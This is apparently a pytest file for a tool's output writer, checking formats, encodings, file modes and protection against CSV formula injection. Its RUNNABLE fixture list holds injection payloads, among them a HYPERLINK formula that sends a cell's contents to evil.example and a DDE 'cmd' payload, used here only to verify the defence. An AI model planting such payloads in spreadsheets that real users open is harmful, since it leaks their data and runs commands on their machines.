"""batchnb._output: where `batchnb run` writes, checked before anything is sent."""

import io
import os
import sys

import pandas as pd
import pytest

from batchnb._output import Output


def test_known_formats_in_a_writable_directory_pass(tmp_path):
    for name in ("r.csv", "r.parquet", "r.pq", "r.xlsx", "R.CSV"):
        assert Output(str(tmp_path / name)).problems() == [], name
    assert Output("-").problems() == []


@pytest.mark.parametrize(
    ("target", "message"),
    [
        ("r.txt", "'{t}': unknown format '.txt'; use .csv, .parquet or .xlsx (or - for CSV on standard output)"),
        (
            "no-ending",
            "'{t}': unknown format '(no ending)'; use .csv, .parquet or .xlsx (or - for CSV on standard output)",
        ),
        ("missing/r.csv", "'{t}': the directory '{d}' does not exist"),
    ],
)
def test_output_problems(tmp_path, target, message):
    t = str(tmp_path / target)
    assert [p.message for p in Output(t).problems()] == [message.format(t=t, d=os.path.dirname(t))]


def test_a_directory_is_not_a_file(tmp_path):
    (tmp_path / "d.csv").mkdir()
    assert Output(str(tmp_path / "d.csv")).problems()[0].message.endswith("is a directory; name a file in it")


@pytest.mark.skipif(os.geteuid() == 0, reason="root may write anywhere")
def test_an_unwritable_directory(tmp_path):
    (tmp_path / "ro").mkdir(mode=0o500)
    assert "cannot write in" in Output(str(tmp_path / "ro" / "r.csv")).problems()[0].message


def test_a_missing_writer_names_the_extra(tmp_path, monkeypatch):
    import importlib.util

    real = importlib.util.find_spec
    monkeypatch.setattr(importlib.util, "find_spec", lambda name, *a: None if name == "pyarrow" else real(name, *a))
    assert (
        Output(str(tmp_path / "r.parquet"))
        .problems()[0]
        .message.endswith("writing Parquet needs pyarrow: pip install 'batchnb[parquet]'")
    )


def test_bodies_are_json_and_unicode_is_written_as_itself(tmp_path):
    frame = pd.DataFrame({"status": [201], "body": [{"name": "Zoë", "n": [1, 2]}]}, index=pd.Index([7], name="row"))
    out = tmp_path / "r.csv"
    Output(str(out)).write(frame)
    text = out.read_text(encoding="utf-8")
    assert text == 'row,status,body\n7,201,"{""name"": ""Zoë"", ""n"": [1, 2]}"\n'
    buffer = io.StringIO()
    Output("-").write(frame, buffer)
    assert buffer.getvalue() == text
    Output(str(tmp_path / "r.xlsx")).write(frame)
    assert pd.read_excel(tmp_path / "r.xlsx")["body"].tolist() == ['{"name": "Zoë", "n": [1, 2]}']


def test_a_csv_is_written_with_the_separator_and_encoding_asked_for(tmp_path):
    frame = pd.DataFrame({"name": ["Bœuf"], "n": [1.5]}, index=pd.Index([0], name="row"))
    out = tmp_path / "r.csv"
    assert Output(str(out), sep=";", encoding="utf-8-sig").write(frame) is None
    assert out.read_bytes() == "\ufeffrow;name;n\n0;Bœuf;1.5\n".encode("utf-8")
    buffer = io.StringIO()
    Output("-", sep=";", encoding="utf-8-sig").write(frame, buffer)
    assert buffer.getvalue() == "\ufeffrow;name;n\n0;Bœuf;1.5\n"
    # cp1252 holds 'œ'; Latin-1 does not: the result is written as UTF-8 with a mark, and the notice says so.
    assert Output(str(out), sep=";", encoding="cp1252").write(frame) is None
    assert out.read_bytes() == "row;name;n\n0;Bœuf;1.5\n".encode("cp1252")
    notice = Output(str(out), encoding="latin-1").write(frame)
    assert (
        notice
        == f"{str(out)!r}: 'œ' cannot be written in latin-1; the result is written as utf-8-sig (UTF-8 that Excel reads) instead"
    )
    assert out.read_bytes() == "\ufeffrow,name,n\n0,Bœuf,1.5\n".encode("utf-8")


# ---------------------------------------------------------------- cells a spreadsheet would run

#: what an API may answer, and a spreadsheet would run as a formula (OWASP "CSV injection"), with plain text around.
RUNNABLE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
]


def formula_frame() -> pd.DataFrame:
    return pd.DataFrame(
        {
            "status": [201, 400, 201, 201, 201, 201],
            "delta": [-3, -1, 0, 2, -7, 5],  # numbers: negative ones stay numbers
            "price": [-0.25, 1.5, -2.0, 0.0, 3.0, -1e-3],
            "error": RUNNABLE,
            "note": ["plain", "'=quoted", "-3", "-", "'", "''@x"],
        },
        index=pd.Index(["=r0", "r1", "r2", "r3", "r4", "r5"], name="row"),
    )


def test_an_xlsx_holds_every_text_as_a_string_cell_never_a_formula(tmp_path):
    openpyxl = pytest.importorskip("openpyxl")
    frame = formula_frame()
    frame["body"] = [{"link": '=HYPERLINK("http://evil.example","x")'}, "#N/A", "=1+1", None, "#DIV/0!", "ok"]
    out = tmp_path / "r.xlsx"
    Output(str(out)).write(frame)
    sheet = openpyxl.load_workbook(out).active
    cells = {(c.row, c.column): c for row in sheet.iter_rows() for c in row if c.value is not None}
    texts = [c for c in cells.values() if isinstance(c.value, str)]
    assert texts and all(c.data_type == "s" for c in texts), [(c.coordinate, c.value, c.data_type) for c in texts]
    numbers = [c.value for c in cells.values() if c.data_type == "n"]
    assert -3 in numbers and -0.25 in numbers  # numbers stay numbers
    # Read back: every text as it was (XML reads a carriage return as a line feed: xlsx is XML).
    back = pd.read_excel(out, index_col=0, keep_default_na=False)
    assert back["error"].tolist() == [cell.replace("\r", "\n") for cell in RUNNABLE]
    assert back.index.tolist()[0] == "=r0"


def test_a_csv_prefixes_text_cells_that_would_run_and_nothing_else(tmp_path):
    out = tmp_path / "r.csv"
    Output(str(out)).write(formula_frame())
    back = pd.read_csv(out, keep_default_na=False, dtype=str)
    assert back["error"].tolist() == ["'" + cell for cell in RUNNABLE]
    # A text that is a plain number runs nothing; a text starting with a quote gets one more when what
    # follows its quotes would run, so that the prefix can be told from the text and taken off again.
    assert back["note"].tolist() == ["plain", "''=quoted", "-3", "'-", "'", "'''@x"]
    assert back["delta"].tolist() == ["-3", "-1", "0", "2", "-7", "5"]
    assert back["price"].tolist() == ["-0.25", "1.5", "-2.0", "0.0", "3.0", "-0.001"]
    assert back["row"].tolist()[0] == "'=r0"
    # On standard output too.
    buffer = io.StringIO()
    Output("-").write(formula_frame(), buffer)
    assert buffer.getvalue() == out.read_bytes().decode("utf-8")


def test_a_carriage_return_in_a_text_is_quoted_and_read_back_whole(tmp_path):
    from batchnb import read_csv

    out = tmp_path / "r.csv"
    Output(str(out), raw_cells=True).write(pd.DataFrame({"a": ["one\rtwo", "x"], "b": [1, 2]}))
    assert read_csv(out)["a"].tolist() == ["one\rtwo", "x"]


def test_raw_cells_writes_a_csv_that_reads_back_cell_for_cell(tmp_path):
    from batchnb import read_csv

    out = tmp_path / "r.csv"
    Output(str(out), raw_cells=True).write(formula_frame())
    back = read_csv(out)
    assert back["error"].tolist() == RUNNABLE
    assert back["note"].tolist() == ["plain", "'=quoted", "-3", "-", "'", "''@x"]
    assert back["delta"].tolist() == [-3, -1, 0, 2, -7, 5] and back["row"].tolist()[0] == "=r0"


def test_what_the_prefix_does_is_undone_exactly():
    from batchnb._output import as_written, formula_safe

    cells = [*RUNNABLE, "plain", "'=quoted", "-3", "+4.5e3", "-", "'", "''@x", "", "'''", "=", "'plain"]
    for cell in cells:
        assert as_written(formula_safe(cell)) == cell, cell
        assert formula_safe(cell)[:1] not in ("=", "+", "-", "@", "\t", "\r") or formula_safe(cell) in ("-3", "+4.5e3")
    # Only what formula_safe writes is changed back: a quote before plain text stays.
    assert as_written("'plain") == "'plain" and as_written("'-3") == "'-3"


@pytest.mark.skipif(sys.platform == "win32", reason="POSIX file modes")
@pytest.mark.parametrize("name", ["r.csv", "r.xlsx", "r.parquet"])
def test_a_new_output_is_readable_by_its_owner_only(tmp_path, name):
    if name.endswith(".parquet"):
        pytest.importorskip("pyarrow")
    old = os.umask(0o022)
    try:
        out = tmp_path / name
        Output(str(out)).write(pd.DataFrame({"body": ['{"token": "t"}']}))
        assert out.stat().st_mode & 0o777 == 0o600
        # A file that exists keeps the mode its owner gave it.
        out.chmod(0o640)
        Output(str(out)).write(pd.DataFrame({"body": ["x"]}))
        assert out.stat().st_mode & 0o777 == 0o640
    finally:
        os.umask(old)
